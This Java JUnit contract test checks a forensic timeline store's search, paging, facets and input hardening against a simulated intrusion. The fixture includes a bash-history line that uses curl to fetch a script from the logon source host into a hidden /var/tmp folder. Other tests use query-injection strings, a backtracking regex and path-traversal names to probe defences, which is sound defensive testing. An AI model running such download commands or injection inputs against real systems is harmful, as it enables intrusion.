package io.varve.timeline;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import io.varve.event.EventJson;
import io.varve.event.TimelineEvent;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What every timeline store must do.
public abstract class TimelineStoreContractTest {
    private static final IndexName FIRST = new IndexName("main", "ev-first", "1");
    private static final IndexName SECOND = new IndexName("main", "ev-second", "1");
    private static final Scope ONE = Scope.of(new Scope.Part(FIRST, "web01", 1));
    private static final Scope OTHER = Scope.of(new Scope.Part(SECOND, "web01", 2));
    private static final Scope BOTH = Scope.of(new Scope.Part(FIRST, "web01", 1), new Scope.Part(SECOND, "web01", 2));

    private final TestEvents events = new TestEvents("ev-first");
    private TimelineStore store;

    protected abstract TimelineStore open(Path folder);

    @BeforeEach
    void openStore(@TempDir Path folder) {
        store = open(folder);
    }

    @AfterEach
    void closeStore() throws IOException {
        store.close();
    }

    private void write(IndexName index, TimelineEvent... written) throws IOException {
        try (TimelineWriter writer = store.open(index)) {
            for (TimelineEvent event : written) {
                writer.add(event);
            }
            writer.commit("end");
        }
    }

    private TimelineEvent log(String time, String record, String message, Object... fields) {
        return events.event(time, "linux:syslog:line", "/var/log/auth.log", record, message, fields);
    }

    private List<String> found(Scope scope, EventFilter filter) throws IOException {
        return store.search(scope, Search.first(filter, Search.Order.OLDEST_FIRST, 100)).hits().stream()
                .map(TimelineStoreContractTest::message)
                .toList();
    }

    private List<String> found(String query) throws IOException {
        return found(ONE, EventFilter.text(query));
    }

    private static String message(Hit hit) {
        try {
            return EventJson.read(hit.json()).message();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private void writeAttack() throws IOException {
        write(
                FIRST,
                log(
                        "2026-11-22T10:00:00Z",
                        "1",
                        "sshd[812]: Accepted password for alice from 10.0.0.5 port 50122 ssh2",
                        "user.name",
                        "alice",
                        "source.ip",
                        "10.0.0.5",
                        "process.name",
                        "sshd",
                        "process.pid",
                        812L,
                        "event.outcome",
                        "success"),
                events.event(
                        "2026-11-22T10:01:00.000000100Z",
                        "linux:bash:history",
                        "/home/alice/.bash_history",
                        "7",
                        "curl -s http://10.0.0.5/up.sh -o /var/tmp/.x/up.sh",
                        "process.command_line",
                        "curl -s http://10.0.0.5/up.sh -o /var/tmp/.x/up.sh",
                        "user.name",
                        "alice"),
                events.event(
                        "2026-11-22T10:02:00Z",
                        "linux:process:running",
                        "/varve/volatile/processes.jsonl",
                        "4242",
                        "A process was running",
                        "process.pid",
                        4242L,
                        "process.executable",
                        "/var/tmp/.x/Up.sh",
                        "process.name",
                        "Up.sh",
                        "labels",
                        List.of("one", "two")),
                events.event("", "linux:modules:loaded", "/varve/volatile/modules.jsonl", "m", "nf_tables is loaded"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "alice",
                "ALICE",
                "10.0.0.5",
                "10.0.0.*",
                "\"password for alice\"",
                "user:alice AND event.outcome:success",
                "user.name:ALICE sshd",
                "process.pid:812",
                "process.pid:[800 TO 900]",
                "process.pid:{811 TO 813}",
                "process.name:ssh*",
                "process.name:/ss.d/",
                "data_type:linux:syslog:line",
                "data_type:\"linux:syslog:line\"",
                "event.outcome:*",
                "_exists_:event.outcome",
                "sshd[812]",
                "path:/var/log/auth.log",
                "path:*auth*",
                "timestamp:[2026-11-22T10:00 TO 2026-11-22T10:00]",
                "timestamp:2026-11-22T10:00",
                "accept*",
                "pasword~1"
            })
    void findsTheLogon(String query) throws IOException {
        writeAttack();

        assertThat(found(query)).as(query).anyMatch(message -> message.startsWith("sshd[812]"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "up.sh",
                "/var/tmp/.x/up.sh",
                "/var/tmp/*",
                "*/.x/*",
                "process.executable:/var/tmp/.x/up.sh",
                "process.executable:*up.sh",
                "process.name:UP.SH",
                "labels:two",
                "labels:(one OR three)",
                "4242",
                "up.s?",
                "process.pid:>nothing OR process.pid:4242"
            })
    void findsTheRunningProcess(String query) throws IOException {
        writeAttack();

        assertThat(found(query)).contains("A process was running");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "mallory",
                "10.0.0.50",
                "user:alic",
                "name:alice",
                "process.pid:[813 TO 900]",
                "timestamp:[2026-11-23 TO *]",
                "timestamp:2025",
                "alice AND mallory",
                "event.outcome:s",
                "sh.up"
            })
    void doesNotFindWhatIsNotThere(String query) throws IOException {
        writeAttack();

        assertThat(found(query)).isEmpty();
    }

    @Test
    void aQueryThatOnlyExcludesFindsTheRest() throws IOException {
        writeAttack();

        assertThat(found("-alice")).containsExactly("A process was running", "nf_tables is loaded");
        assertThat(found("NOT data_type:linux*")).isEmpty();
        assertThat(found("*")).hasSize(4);
        assertThat(found("undated:true")).containsExactly("nf_tables is loaded");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "(alice",
                "alice)",
                "\"alice",
                "AND",
                "process.pid:[1 TO",
                "timestamp:yesterday",
                "alice OR OR bob",
                "[a TO b]",
                "name:/(a{1000}){1000}/",
                "name:/((((((/",
                "timestamp:2026-13-01",
                "user:alice~"
            })
    void aBadQuerySaysSo(String query) {
        assertThatExceptionOfType(QueryException.class)
                .isThrownBy(() -> {
                    writeAttack();
                    found(query);
                })
                .satisfies(e -> assertThat(e.getMessage()).isNotBlank().doesNotContain("lucene"));
    }

    @Test
    void aQueryHasBounds() {
        assertThatExceptionOfType(QueryException.class).isThrownBy(() -> found("a".repeat(5_000)));
        assertThatExceptionOfType(QueryException.class).isThrownBy(() -> found("a ".repeat(1_500)));
        assertThatExceptionOfType(QueryException.class).isThrownBy(() -> found("(".repeat(1_000)));
        assertThatExceptionOfType(QueryException.class)
                .isThrownBy(() -> Search.first(EventFilter.ALL, Search.Order.OLDEST_FIRST, 0));
        assertThatExceptionOfType(QueryException.class)
                .isThrownBy(() -> store.facets(ONE, EventFilter.ALL, List.of("no.such.field"), 10));
        assertThatExceptionOfType(QueryException.class)
                .isThrownBy(() -> store.search(
                        ONE, new Search(EventFilter.ALL, Search.Order.OLDEST_FIRST, 1, Optional.of("AAAA"))));
    }

    @Test
    void aRecordInTwoEvidenceItemsOfOneAssetIsShownOnce() throws IOException {
        write(FIRST, log("2026-11-22T10:00:00Z", "1", "a"), log("2026-11-22T10:01:00Z", "2", "b"));
        var later = new TestEvents("ev-second");
        write(
                SECOND,
                later.event("2026-11-22T10:01:00Z", "linux:syslog:line", "/var/log/auth.log", "2", "b"),
                later.event("2026-11-22T10:02:00Z", "linux:syslog:line", "/var/log/auth.log", "3", "c"));

        assertThat(found(ONE, EventFilter.ALL)).containsExactly("a", "b");
        assertThat(found(OTHER, EventFilter.ALL)).containsExactly("b", "c");
        assertThat(found(BOTH, EventFilter.ALL)).containsExactly("a", "b", "c");
        assertThat(store.search(BOTH, Search.first(EventFilter.text("host:web01"), Search.Order.NEWEST_FIRST, 1))
                        .total())
                .isEqualTo(3);
        assertThat(store.facets(BOTH, EventFilter.ALL, List.of("host"), 10).get("host"))
                .containsExactly(new FacetValue("web01", 3));
        assertThat(store.histogram(BOTH, EventFilter.ALL, 3).buckets())
                .extracting(Histogram.Bucket::count)
                .containsExactly(1L, 1L, 1L);
    }

    @Test
    void theCopyOfTheLowestRankIsShownAndAllAreFoundByRecord() throws IOException {
        TimelineEvent one = log("2026-11-22T10:00:00Z", "1", "a");
        TimelineEvent two = new TestEvents("ev-second")
                .event("2026-11-22T10:00:00Z", "linux:syslog:line", "/var/log/auth.log", "1", "a");
        write(SECOND, two);
        write(FIRST, one);
        Scope turned = Scope.of(new Scope.Part(FIRST, "web01", 9), new Scope.Part(SECOND, "web01", 2));

        assertThat(store.search(BOTH, Search.first(EventFilter.ALL, Search.Order.OLDEST_FIRST, 10))
                        .hits())
                .extracting(Hit::index)
                .containsExactly(FIRST);
        assertThat(store.search(turned, Search.first(EventFilter.ALL, Search.Order.OLDEST_FIRST, 10))
                        .hits())
                .extracting(Hit::index)
                .containsExactly(SECOND);
        assertThat(store.copies(BOTH, one.record())).extracting(Hit::id).containsExactly(one.id(), two.id());
        assertThat(store.event(BOTH, two.id())).map(Hit::index).contains(SECOND);
        assertThat(store.event(ONE, two.id())).isEmpty();
    }

    @Test
    void otherAssetsNeverHideEachOther() throws IOException {
        write(FIRST, log("2026-11-22T10:00:00Z", "1", "a"));
        write(
                SECOND,
                new TestEvents("ev-second")
                        .event("2026-11-22T10:00:00Z", "linux:syslog:line", "/var/log/auth.log", "1", "a"));
        Scope assets = Scope.of(new Scope.Part(FIRST, "web01", 1), new Scope.Part(SECOND, "web02", 2));

        assertThat(found(assets, EventFilter.ALL)).containsExactly("a", "a");
    }

    @Test
    void anEventWrittenTwiceIsThereOnce() throws IOException {
        TimelineEvent event = log("2026-11-22T10:00:00Z", "1", "a");
        write(FIRST, event, event);
        write(FIRST, event, log("2026-11-22T10:01:00Z", "2", "b"));

        assertThat(found(ONE, EventFilter.ALL)).containsExactly("a", "b");
        assertThat(store.checkpoint(FIRST)).contains(new Checkpoint("end", 2));
    }

    @Test
    void whatWasNotCommittedDoesNotExist() throws IOException {
        try (TimelineWriter writer = store.open(FIRST)) {
            assertThat(writer.checkpoint()).isEmpty();
            assertThat(found(ONE, EventFilter.ALL)).isEmpty();
            writer.add(log("2026-11-22T10:00:00Z", "1", "a"));
            assertThat(writer.commit("segment 1")).isEqualTo(new Checkpoint("segment 1", 1));
            writer.add(log("2026-11-22T10:01:00Z", "2", "b"));
            assertThat(found(ONE, EventFilter.ALL)).containsExactly("a");
        }

        assertThat(found(ONE, EventFilter.ALL)).containsExactly("a");
        try (TimelineWriter writer = store.open(FIRST)) {
            assertThat(writer.checkpoint()).contains(new Checkpoint("segment 1", 1));
            writer.add(log("2026-11-22T10:01:00Z", "2", "b"));
            writer.commit("segment 2");
        }
        assertThat(found(ONE, EventFilter.ALL)).containsExactly("a", "b");
    }

    @Test
    void oneWriterAtATime() throws IOException {
        try (TimelineWriter writer = store.open(FIRST)) {
            writer.commit("start");
            assertThatExceptionOfType(IOException.class).isThrownBy(() -> store.open(FIRST));
            assertThatExceptionOfType(IOException.class).isThrownBy(() -> store.delete(FIRST));
        }
    }

    @Test
    void aDeletedRunIsGone() throws IOException {
        write(FIRST, log("2026-11-22T10:00:00Z", "1", "a"));
        assertThat(store.runs("main", "ev-first")).containsExactly(FIRST);
        assertThat(found(ONE, EventFilter.ALL)).hasSize(1);

        store.delete(FIRST);
        store.delete(FIRST);

        assertThat(found(ONE, EventFilter.ALL)).isEmpty();
        assertThat(store.runs("main", "ev-first")).isEmpty();
        assertThat(store.checkpoint(FIRST)).isEmpty();
    }

    @Test
    void pagesGoOverEveryEventOnceInBothOrders() throws IOException {
        var written = new ArrayList<TimelineEvent>();
        for (int i = 0; i < 25; i++) {
            String time = i < 5 ? "" : "2026-11-22T10:00:0%dZ".formatted(i / 10);
            written.add(log(time, "r" + i, "event " + i));
        }
        write(FIRST, written.toArray(TimelineEvent[]::new));

        for (Search.Order order : Search.Order.values()) {
            List<Hit> hits = allPages(order);

            assertThat(hits).extracting(Hit::id).doesNotHaveDuplicates().hasSize(25);
            assertThat(hits.subList(20, 25)).allMatch(hit -> hit.json().contains("\"timestamp\":null"));
            List<String> times = hits.subList(0, 20).stream()
                    .map(TimelineStoreContractTest::time)
                    .toList();
            assertThat(times)
                    .isSortedAccordingTo(
                            (a, b) -> order == Search.Order.OLDEST_FIRST ? a.compareTo(b) : b.compareTo(a));
        }
    }

    private List<Hit> allPages(Search.Order order) throws IOException {
        var hits = new ArrayList<Hit>();
        Optional<String> cursor = Optional.empty();
        do {
            Page page = store.search(ONE, new Search(EventFilter.ALL, order, 4, cursor));
            assertThat(page.total()).isEqualTo(25);
            hits.addAll(page.hits());
            cursor = page.next();
        } while (cursor.isPresent());
        return hits;
    }

    private static String time(Hit hit) {
        int start = hit.json().indexOf("\"timestamp\":\"");
        return hit.json().substring(start, start + 45);
    }

    @Test
    void aRangeHoldsItsBeginButNotItsEndAndNoUndatedEvent() throws IOException {
        writeAttack();
        Instant begin = Instant.parse("2026-11-22T10:00:00Z");

        assertThat(found(ONE, EventFilter.ALL.between(begin, begin.plus(Duration.ofMinutes(1)))))
                .hasSize(1);
        assertThat(found(ONE, EventFilter.ALL.between(begin, Instant.parse("2026-11-22T10:01:00.000000200Z"))))
                .hasSize(2);
        assertThat(found(ONE, EventFilter.ALL.between(Instant.MIN, Instant.MAX)))
                .hasSize(3);
        assertThat(found(ONE, EventFilter.ALL.between(begin, begin))).isEmpty();
    }

    @Test
    void timesFarFromTodayAreSorted() throws IOException {
        write(
                FIRST,
                log("9999-12-31T23:59:59Z", "1", "last"),
                log("0001-01-01T00:00:00Z", "2", "first"),
                log("1601-01-01T00:00:00.0000001Z", "3", "filetime"));

        assertThat(found(ONE, EventFilter.ALL)).containsExactly("first", "filetime", "last");
        assertThat(store.histogram(ONE, EventFilter.ALL, 10).buckets()).hasSizeLessThanOrEqualTo(10);
    }

    @Test
    void facetsCountValuesMostFrequentFirst() throws IOException {
        write(
                FIRST,
                log("2026-11-22T10:00:00Z", "1", "a", "user.name", "alice", "process.name", "Sshd"),
                log("2026-11-22T10:00:00Z", "2", "b", "user.name", "alice"),
                log("2026-11-22T10:00:00Z", "3", "c", "user.name", "bob"));

        var facets = store.facets(ONE, EventFilter.ALL, List.of("user", "process.name", "service.name"), 1);

        assertThat(facets.get("user")).containsExactly(new FacetValue("alice", 2));
        assertThat(facets.get("process.name")).containsExactly(new FacetValue("Sshd", 1));
        assertThat(facets.get("service.name")).isEmpty();
    }

    @Test
    void aHistogramHasRoundBucketsOverTheRangeAndCountsTheUndated() throws IOException {
        writeAttack();
        Instant begin = Instant.parse("2026-11-22T10:00:00Z");

        Histogram histogram = store.histogram(ONE, EventFilter.ALL.between(begin, begin.plus(Duration.ofHours(1))), 60);

        assertThat(histogram.interval()).isEqualTo(Duration.ofMinutes(1));
        assertThat(histogram.buckets()).hasSize(60);
        assertThat(histogram.buckets().subList(0, 4))
                .extracting(Histogram.Bucket::count)
                .containsExactly(1L, 1L, 1L, 0L);
        assertThat(histogram.from()).contains(begin);
        assertThat(histogram.to()).contains(begin.plus(Duration.ofHours(1)));
        assertThat(histogram.undated()).isEqualTo(1);
        assertThat(store.histogram(ONE, EventFilter.text("mallory"), 60).buckets())
                .isEmpty();
    }

    @Test
    void aMatchIsNeverReadAsSyntax() throws IOException {
        String hostile = "x\" OR *:* OR /.*/ \\";
        write(
                FIRST,
                log("2026-11-22T10:00:00Z", "1", "plain", "process.name", "bash"),
                log("2026-11-22T10:00:01Z", "2", "hostile", "process.name", hostile),
                log("2026-11-22T10:00:02Z", "3", "star", "process.name", "a*c"));

        assertThat(found(ONE, EventFilter.match(Match.is("process.name", hostile))))
                .containsExactly("hostile");
        assertThat(found(QueryText.is("process.name", hostile))).containsExactly("hostile");
        assertThat(found(ONE, EventFilter.match(new Match.EndsWith("process.name", "*"))))
                .isEmpty();
        assertThat(found(ONE, EventFilter.match(new Match.EndsWith("process.name", "*c"))))
                .containsExactly("star");
        assertThat(found(ONE, EventFilter.match(new Match.StartsWith("process.name", "a*"))))
                .containsExactly("star");
        assertThat(found(
                        ONE,
                        EventFilter.match(Match.all(
                                new Match.Has("process.name"), new Match.Not(Match.is("process.name", "bash"))))))
                .containsExactly("hostile", "star");
        assertThat(found(ONE, EventFilter.match(Match.any()))).isEmpty();
    }

    @Test
    void hostileFieldsDoNotHurt() throws IOException {
        String huge = "A".repeat(100_000) + " tail";
        var many = new ArrayList<Object>();
        for (int i = 0; i < 2_000; i++) {
            many.add("key" + i + "\0process.name");
            many.add("v" + i);
        }
        write(
                FIRST,
                log("2026-11-22T10:00:00Z", "1", "huge", "data", huge, "broken \ud800", "\udc00 \0"),
                log("2026-11-22T10:00:01Z", "2", "many", many.toArray()));

        Page page = store.search(ONE, Search.first(EventFilter.text("tail"), Search.Order.OLDEST_FIRST, 1));
        assertThat(page.hits().getFirst().json()).contains(huge);
        assertThat(found(ONE, EventFilter.match(Match.is("data", huge)))).containsExactly("huge");
        assertThat(found("v1999")).containsExactly("many");
        assertThat(found("process.name:*")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "{}",
                "[]",
                "{\"id\":1}",
                "not json",
                "{\"id\":\"a\",\"record\":\"b\",\"message\":\"c\",\"timestamp\":\"x\"}"
            })
    void aLineThatIsNotAnEventIsRefused(String line) throws IOException {
        try (TimelineWriter writer = store.open(FIRST)) {
            assertThatIllegalArgumentException().isThrownBy(() -> writer.add(line));
            writer.add(log("2026-11-22T10:00:00Z", "1", "a"));
            assertThat(writer.commit("end").events()).isEqualTo(1);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"..", "a/b", "", "A", "-x"})
    void anIndexNameCannotLeaveItsFolder(String name) {
        assertThatIllegalArgumentException().isThrownBy(() -> new IndexName("main", name, "1"));
    }
}
